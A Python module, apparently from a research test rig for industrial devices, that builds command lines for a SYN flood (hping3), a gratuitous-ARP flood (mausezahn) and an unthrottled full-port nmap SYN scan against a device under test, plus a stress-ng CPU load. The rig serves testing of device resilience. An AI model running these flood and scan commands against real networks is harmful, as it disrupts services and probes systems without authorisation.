"""What the rig runs against a device: the attacks' tools and the CPU load.

The attacks are those of Section 4 of the industrial-architectures study: a
SYN flood (hping3), an ARP flood (mausezahn) and a full SYN scan (nmap), each
from the attacker's namespace at full rate (:data:`.host.TOOLS` names their
packages). :func:`count_flood_in` reads an attack's own packets from the
device's ingress counters (:class:`.counters.Counters`).
"""

from __future__ import annotations

from typing import Any

from rtshield.rig.network import ATTACKER_ADDR, DEVICE_ADDR, LISTEN_PORT

__all__ = [
    "ATTACKS",
    "ATTACK_TOOL",
    "arp_flood_argv",
    "attack_argv",
    "count_flood_in",
    "nmap_scan_argv",
    "stress_argv",
    "syn_flood_argv",
]


def syn_flood_argv(target: str = DEVICE_ADDR, port: int = LISTEN_PORT) -> list[str]:
    """hping3 SYN flood at full rate to the listener; responses are not handled."""
    return ["hping3", "-S", "--flood", "-q", "-p", str(port), target]


def arp_flood_argv(iface: str, sender: str = ATTACKER_ADDR) -> list[str]:
    """Gratuitous ARP requests (sender IP = target IP, broadcast) at full rate (mausezahn)."""
    return [
        "mausezahn",
        iface,
        "-q",
        "-c",
        "0",
        "-d",
        "0",
        "-t",
        "arp",
        f"request, sip={sender}, tip={sender}",
    ]


def nmap_scan_argv(target: str = DEVICE_ADDR) -> list[str]:
    """Full SYN scan of all 65535 ports without rate limitation (timing template T5)."""
    return ["nmap", "-sS", "-p-", "-n", "-Pn", "-T5", target]


#: The attacks of Section 4 of the industrial-architectures study, and the tool of each.
ATTACKS = ("syn", "arp", "nmap")
ATTACK_TOOL = {"syn": "hping3", "arp": "mausezahn", "nmap": "nmap"}


def attack_argv(attack: str, iface: str) -> list[str]:
    """The command line of one of :data:`ATTACKS` (``iface``: the attacker's interface,
    for the ARP flood)."""
    if attack == "syn":
        return syn_flood_argv()
    if attack == "arp":
        return arp_flood_argv(iface)
    return nmap_scan_argv()


def count_flood_in(traffic: dict[str, Any], attack: str) -> None:
    """Add ``flood_in`` and ``flood_in_pps`` to an attack phase's counter rates: the
    flood's own packets as they reached the device's ingress (ARP requests for the ARP
    flood, SYNs otherwise)."""
    key = "arp_in" if attack == "arp" else "syn_in"
    traffic["flood_in"] = traffic.get(key, 0)
    traffic["flood_in_pps"] = traffic.get(key + "_pps", 0.0)


def stress_argv(seconds: float) -> list[str]:
    """One stress-ng CPU load process (pin it with ``cpu=`` of :meth:`.harness.Harness.spawn`)."""
    return ["stress-ng", "--cpu", "1", "--timeout", f"{max(1, int(seconds + 0.999))}s", "-q"]
